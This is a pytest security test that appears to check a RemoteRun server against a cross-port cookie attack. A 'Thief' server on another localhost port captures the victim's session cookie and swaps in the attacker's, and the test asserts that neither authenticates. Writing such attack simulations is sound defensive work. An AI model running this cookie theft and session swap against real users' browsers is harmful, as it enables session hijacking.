"""Issue 26, attack 5: cookies are not scoped by port, so a page on another port of the host
receives `remoterun_session` and may set its own in its place. A real Chromium logs in to a
real server; a server on another port steals the cookie, then swaps in the attacker's."""

from __future__ import annotations

import http.server
import json
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import ServerProcess
from playwright.sync_api import Browser, expect
from test_browser_attack import browser
from test_page import READY, WAIT_MS

__all__ = ["browser"]
CONFIG = ('[[tokens]]\nname = "victim"\ntoken = "victim-admin-token-0123"\nrole = "admin"\n'
          '[[tokens]]\nname = "mallory"\ntoken = "mallory-viewer-token-01"\nrole = "viewer"\n')


@pytest.fixture
def target(tmp_path: Path) -> Iterator[ServerProcess]:
    """The RemoteRun server, with the victim's admin token and the attacker's viewer token."""
    server = ServerProcess(tmp_path, CONFIG)
    server.start()
    yield server
    server.stop()


class Thief(http.server.BaseHTTPRequestHandler):
    """Another port of the same host: keeps the cookies it is sent; /swap sets its own."""

    seen: list[str] = []
    swap_to = ""

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        Thief.seen.append(self.headers.get("Cookie", ""))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        if self.path == "/swap":
            self.send_header("Set-Cookie", f"remoterun_session={Thief.swap_to}; Path=/")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>thief</title>")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def thief() -> Iterator[str]:
    """The other port's server, in a thread; its URL."""
    Thief.seen = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Thief)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()
    thread.join()


def status_of(url: str, headers: dict[str, str]) -> int:
    """The status a plain client (no browser, no Origin) gets."""
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=10):
            return 200
    except urllib.error.HTTPError as error:
        return error.code


def test_a_cookie_from_another_port_authenticates_nothing(browser: Browser, target, thief):
    """The stolen cookie gets 401 on its own; the attacker's cookie swapped into the victim's
    browser never makes the victim's page act as the attacker (it asks for a login)."""
    context = browser.new_context(base_url=target.url)
    page = context.new_page()
    page.goto("/")
    page.fill("#login [name=token]", "victim-admin-token-0123")
    page.click("#login button")
    page.wait_for_function(READY, timeout=WAIT_MS)
    expect(page.locator("#who")).to_have_text("victim (admin)")

    page.goto(thief + "/steal")
    stolen = next(c for c in Thief.seen if "remoterun_session=" in c)  # the browser sent it
    for path in ("/tasks", "/whoami", "/audit"):
        assert status_of(target.url + path, {"Cookie": stolen}) == 401, path

    request = urllib.request.Request(target.url + "/login", method="POST",
                                     data=json.dumps({"token": "mallory-viewer-token-01"})
                                     .encode(), headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=10) as answer:
        Thief.swap_to = answer.headers["Set-Cookie"].split(";")[0].split("=", 1)[1]
    page.goto(thief + "/swap")
    page.goto(target.url + "/")
    expect(page.locator("#login")).to_be_visible(timeout=WAIT_MS)
    expect(page.locator("#who")).not_to_have_text("mallory (viewer)")
    context.close()
